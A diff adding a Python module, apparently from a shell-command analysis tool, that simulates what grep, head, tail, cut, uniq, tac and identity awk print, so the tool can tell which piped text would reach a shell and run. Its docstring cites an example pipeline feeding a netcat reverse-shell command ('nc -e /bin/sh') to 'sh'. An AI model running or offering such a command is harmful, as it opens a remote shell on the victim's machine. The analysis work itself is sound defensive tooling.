@@ -1,0 +1,194 @@
+"""What the line filters print for a known input: grep, head, tail, tac, uniq, cut, and awk's identity
+programs. `echo 'nc -e /bin/sh H P' | grep . | sh` runs nc; `echo 'nc -e ...' | grep -v nc | sh`
+runs nothing. Each is computed as GNU grep/coreutils/awk do for the forms below, and anything else
+is unknown (None): a wrong answer would have the reader read what does not run.
+
+- grep [-v] [-i] [-x] [-E|-F|-G] [-e PATTERN]... [PATTERN], reading its input (regexes as sed's,
+  vigiles/analysis/sed.py); -q prints nothing;
+- head / tail with -n N, -N, --lines=N (tail also +N);
+- tac; uniq without options; cut -c LIST, or -f LIST with -d X (ASCII text only);
+- awk 1, awk '{print}', awk '{print $0}'.
+"""
+from __future__ import annotations
+
+import re2
+
+from .sed import _options_for, _regex, _Unknown
+
+
+def output_of(name: str, args: list[str], stdin: str) -> str | None:
+    try:
+        if name in ("grep", "egrep", "fgrep"):
+            return _grep(name, args, stdin)
+        if name in ("head", "tail"):
+            return _head_tail(name, args, stdin)
+        if name == "tac" and not args:
+            lines = _lines(stdin)
+            return "".join(line + "\n" for line in reversed(lines))
+        if name == "uniq" and not args:
+            lines = _lines(stdin)
+            kept = [line for i, line in enumerate(lines) if i == 0 or line != lines[i - 1]]
+            return "".join(line + "\n" for line in kept)
+        if name == "cut":
+            return _cut(args, stdin)
+        if name in ("awk", "gawk", "mawk", "nawk") and len(args) == 1 and _IDENTITY.fullmatch(args[0]):
+            return "".join(line + "\n" for line in _lines(stdin))
+    except (_Unknown, re2.error, ValueError, UnicodeError, MemoryError, StopIteration):
+        return None
+    return None
+
+
+_IDENTITY = re2.compile(r"\s*(?:1|\{\s*print\s*(?:\$0)?\s*;?\s*\})\s*")
+
+
+def _lines(text: str) -> list[str]:
+    lines = text.split("\n")
+    if lines[-1] == "":
+        lines.pop()
+    return lines
+
+
+def _grep(name: str, args: list[str], stdin: str) -> str | None:
+    patterns: list[str] = []
+    invert = case = whole = quiet = False
+    syntax = {"egrep": "E", "fgrep": "F"}.get(name, "G")
+    rest: list[str] = []
+    words = iter(args)
+    for word in words:
+        if word in ("-e", "--regexp"):
+            patterns.append(next(words))
+        elif word.startswith("--regexp="):
+            patterns.append(word.split("=", 1)[1])
+        elif word.startswith("-") and len(word) > 1 and not word.startswith("--"):
+            for flag in word[1:]:
+                if flag == "v":
+                    invert = True
+                elif flag == "i":
+                    case = True
+                elif flag == "x":
+                    whole = True
+                elif flag == "q":
+                    quiet = True
+                elif flag in "EFG":
+                    syntax = flag
+                elif flag not in "sa":  # -s (quiet about files), -a (text)
+                    return None  # -o, -c, -n, -w, -l, -r, -f, -A/-B/-C, -P, -z, ...
+        elif word in ("--invert-match", "--ignore-case", "--extended-regexp", "--fixed-strings"):
+            invert = invert or word == "--invert-match"
+            case = case or word == "--ignore-case"
+            syntax = {"--extended-regexp": "E", "--fixed-strings": "F"}.get(word, syntax)
+        elif word.startswith("-") and word != "-":
+            return None
+        else:
+            rest.append(word)
+    if not patterns:
+        if not rest:
+            return None
+        patterns.append(rest.pop(0))
+    if any(word != "-" for word in rest):
+        return None  # files: the input is theirs
+    if quiet:
+        return ""
+    if not stdin.isascii() and (case or syntax != "F"):
+        return None
+    regexes = []
+    for pattern in (p for item in patterns for p in item.split("\n")):
+        if syntax == "F":
+            source = re2.escape(pattern)
+        else:
+            source, traits = _regex(pattern, syntax == "E")
+            if not stdin.isascii() and "word class" in traits:
+                return None
+        regexes.append(f"(?:{source})")
+    compiled = re2.compile(("^(?:" if whole else "") + "|".join(regexes) + (")$" if whole else ""),
+                           _options_for(case))
+    kept = [line for line in _lines(stdin) if (compiled.search(line) is not None) != invert]
+    return "".join(line + "\n" for line in kept)
+
+
+def _count(word: str) -> int:
+    if not word.lstrip("+").isdigit() or len(word) > 9:
+        raise _Unknown("count")
+    return int(word.lstrip("+"))
+
+
+def _head_tail(name: str, args: list[str], stdin: str) -> str | None:
+    count, from_start = 10, False
+    words = iter(args)
+    for word in words:
+        if word in ("-n", "--lines"):
+            word = next(words)
+            from_start = word.startswith("+")
+            count = _count(word)
+        elif word.startswith("--lines="):
+            value = word.split("=", 1)[1]
+            from_start = value.startswith("+")
+            count = _count(value)
+        elif word.startswith("-n"):
+            from_start = word[2:].startswith("+")
+            count = _count(word[2:])
+        elif word.startswith("-") and word[1:].isdigit():
+            count = _count(word[1:])
+        else:
+            return None  # -c (bytes), -q, files, a negative count, ...
+    lines = _lines(stdin)
+    if name == "head":
+        if from_start:
+            return None
+        kept = lines[:count]
+    elif from_start:
+        kept = lines[max(count - 1, 0):]
+    else:
+        kept = lines[len(lines) - count:] if count else []
+    return "".join(line + "\n" for line in kept)
+
+
+def _ranges(spec: str) -> list[tuple[int, int]]:
+    out = []
+    for part in spec.split(","):
+        low, dash, high = part.partition("-")
+        if not dash:
+            low = high = part
+        start = _count(low) if low else 1
+        stop = _count(high) if high else 1 << 30
+        if start < 1 or stop < start:
+            raise _Unknown("range")
+        out.append((start, stop))
+    if len(out) > 16:
+        raise _Unknown("too many ranges")
+    return out
+
+
+def _cut(args: list[str], stdin: str) -> str | None:
+    if not stdin.isascii():
+        return None  # GNU cut counts bytes
+    chars = fields = None
+    delimiter = "\t"
+    words = iter(args)
+    for word in words:
+        if word in ("-c", "-b", "-f", "-d"):
+            value = next(words)
+            word = word + value
+        if word[:2] in ("-c", "-b"):
+            chars = _ranges(word[2:])
+        elif word.startswith("-f"):
+            fields = _ranges(word[2:])
+        elif word.startswith("-d"):
+            delimiter = word[2:]
+            if len(delimiter) != 1:
+                return None
+        else:
+            return None  # -s, --complement, --output-delimiter, files
+    out = []
+    for line in _lines(stdin):
+        if chars is not None:
+            out.append("".join(ch for i, ch in enumerate(line, 1) if any(a <= i <= b for a, b in chars)))
+        elif fields is not None:
+            if delimiter not in line:
+                out.append(line)
+                continue
+            parts = line.split(delimiter)
+            out.append(delimiter.join(p for i, p in enumerate(parts, 1) if any(a <= i <= b for a, b in fields)))
+        else:
+            return None
+    return "".join(line + "\n" for line in out)
